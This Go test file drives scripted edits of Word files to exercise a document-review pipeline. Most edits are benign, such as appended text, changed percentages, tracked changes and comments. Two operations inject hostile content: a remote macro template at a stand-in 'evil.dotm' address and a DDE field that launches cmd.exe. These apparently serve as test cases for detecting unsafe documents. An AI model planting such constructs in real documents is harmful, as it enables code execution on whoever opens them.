package main

import (
	"archive/zip"
	"bytes"
	"context"
	"io"
	"os"
	"path/filepath"
	"regexp"
	"strings"
	"testing"

	"github.com/rogpeppe/go-internal/testscript"

	"zhixiao/output/review"
	"zhixiao/store/sqlite"
)

// TestReviewScripts tells what happens between a draft, its reviewer and the
// next build. redraft edits a Word file as a reviewer would; sql changes data.
func TestReviewScripts(t *testing.T) {
	testscript.Run(t, testscript.Params{Dir: "testdata/review", Cmds: map[string]func(*testscript.TestScript, bool, []string){
		"demoyear": demoYear,
		"redraft":  redraft,
		"comments": comments,
		"sql":      changeData,
	}})
}

// changeData runs a statement: sql DATABASE STATEMENT.
func changeData(ts *testscript.TestScript, _ bool, args []string) {
	db := sqlite.Open(ts.MkAbs(args[0]))
	defer func() { _ = db.Close() }()
	_, err := db.Exec(args[1])
	ts.Check(err)
}

// comments FILE-PATTERN: writes who commented what in the only file that matches
// to comments.txt, and the file to draft.docx.
func comments(ts *testscript.TestScript, _ bool, args []string) {
	redraft(ts, false, args)
	file, err := review.Read(context.Background(), ts.MkAbs("draft.docx"))
	ts.Check(err)
	var all strings.Builder
	for _, c := range file.Reading.Comments {
		all.WriteString(c.Author + "：" + c.Text + "\n")
	}
	ts.Check(os.WriteFile(ts.MkAbs("comments.txt"), []byte(all.String()), 0o644))
}

// redraft FILE-PATTERN OP…: edits the only file that matches, in place, and
// leaves a copy at draft.docx.
func redraft(ts *testscript.TestScript, _ bool, args []string) {
	found, err := filepath.Glob(ts.MkAbs(args[0]))
	ts.Check(err)
	if len(found) != 1 {
		ts.Fatalf("%s: %d files", args[0], len(found))
	}
	data, err := os.ReadFile(found[0])
	ts.Check(err)
	if len(args) > 1 {
		data, err = edited(data, args[1:])
		ts.Check(err)
		ts.Check(os.Chmod(found[0], 0o644)) // somebody may insist on a locked file
		ts.Check(os.WriteFile(found[0], data, 0o644))
	}
	ts.Check(os.WriteFile(ts.MkAbs("draft.docx"), data, 0o644))
}

var (
	bodyParagraph = regexp.MustCompile(`<w:p><w:pPr><w:pStyle w:val="[^"]*"/></w:pPr><w:bookmarkStart [^>]*w:name="zx_[^>]*/>.*?</w:p>`)
	notText       = regexp.MustCompile(`<w:drawing>|>注：|>数据来源|>[图表]\d`)
	decimal       = regexp.MustCompile(`\d+\.\d\d%`)
)

const (
	newRun     = `<w:r><w:t>审核人补充说明。</w:t></w:r>`
	trackedRun = `<w:ins w:id="9001" w:author="李四" w:date="2026-10-09T10:00:00Z"><w:r><w:t>（修订补充）</w:t></w:r></w:ins>`
)

// edited applies each edit to a paragraph of its own, one after the other, from
// the first long ones on.
func edited(data []byte, ops []string) ([]byte, error) {
	parts, err := unpacked(data)
	if err != nil {
		return nil, err
	}
	doc, at := parts["word/document.xml"], 0
	for _, op := range ops {
		if op == "picture" {
			parts["word/media/zhixiao1.jpg"] = parts["word/media/zhixiao2.jpg"]
			continue
		}
		if op == "macro-template" {
			parts["word/_rels/settings.xml.rels"] = `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="t" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="http://127.0.0.1:9/evil.dotm" TargetMode="External"/></Relationships>`
			continue
		}
		if op == "append-all" {
			doc = bodyParagraph.ReplaceAllStringFunc(doc, func(p string) string { return applied(p, op) })
			continue
		}
		for _, span := range bodyParagraph.FindAllStringIndex(doc, -1) {
			p := doc[span[0]:span[1]]
			if span[0] < at || len(p) < 400 || notText.MatchString(p) || op == "number" && !decimal.MatchString(p) {
				continue
			}
			p = applied(p, op)
			doc, at = doc[:span[0]]+p+doc[span[1]:], span[0]+len(p)
			break
		}
	}
	parts["word/document.xml"] = doc
	if strings.Contains(doc, "commentReference") {
		addComments(parts)
	}
	return repacked(data, parts)
}

func applied(p, op string) string {
	behind := func(s string) string { return strings.TrimSuffix(p, "</w:p>") + s + "</w:p>" }
	switch op {
	case "append":
		return behind(newRun)
	case "append-all":
		if len(p) >= 400 && !notText.MatchString(p) {
			return behind(newRun)
		}
	case "number":
		return decimal.ReplaceAllString(p, "12.34%")
	case "delete":
		return ""
	case "add":
		return p + `<w:p>` + strings.ReplaceAll(newRun, "审核人补充说明", "审核人新加的一段") + `</w:p>`
	case "track":
		return behind(trackedRun)
	case "dde":
		return behind(`<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>DDE</w:instrText></w:r><w:r><w:instrText>AUTO c:\\cmd.exe "/k calc"</w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r>`)
	case "comment":
		return behind(`<w:commentRangeStart w:id="7"/><w:r><w:t>此处</w:t></w:r><w:commentRangeEnd w:id="7"/><w:r><w:commentReference w:id="7"/></w:r>`)
	}
	return p
}

func addComments(parts map[string]string) {
	const space = `xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"`
	parts["word/comments.xml"] = `<w:comments ` + space + `><w:comment w:id="7" w:author="王五" w:date="2026-10-09T11:00:00Z"><w:p><w:r><w:t>请核对口径</w:t></w:r></w:p></w:comment></w:comments>`
	parts["word/_rels/document.xml.rels"] = strings.Replace(parts["word/_rels/document.xml.rels"], "</Relationships>",
		`<Relationship Id="rIdComments" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/comments" Target="comments.xml"/></Relationships>`, 1)
	parts["[Content_Types].xml"] = strings.Replace(parts["[Content_Types].xml"], "</Types>",
		`<Override PartName="/word/comments.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.comments+xml"/></Types>`, 1)
}

func unpacked(data []byte) (map[string]string, error) {
	z, err := zip.NewReader(bytes.NewReader(data), int64(len(data)))
	if err != nil {
		return nil, err
	}
	parts := map[string]string{}
	for _, f := range z.File {
		r, err := f.Open()
		if err != nil {
			return nil, err
		}
		text, err := io.ReadAll(r)
		if err != nil {
			return nil, err
		}
		parts[f.Name] = string(text)
	}
	return parts, nil
}

// repacked keeps the order of the parts; new ones come last.
func repacked(was []byte, parts map[string]string) ([]byte, error) {
	z, err := zip.NewReader(bytes.NewReader(was), int64(len(was)))
	if err != nil {
		return nil, err
	}
	var out bytes.Buffer
	w := zip.NewWriter(&out)
	put := func(name string) error {
		f, err := w.Create(name)
		if err == nil {
			_, err = io.WriteString(f, parts[name])
		}
		return err
	}
	for _, f := range z.File {
		if err := put(f.Name); err != nil {
			return nil, err
		}
		delete(parts, f.Name)
	}
	for name := range parts {
		if err := put(name); err != nil {
			return nil, err
		}
	}
	err = w.Close() // writes the directory
	return out.Bytes(), err
}
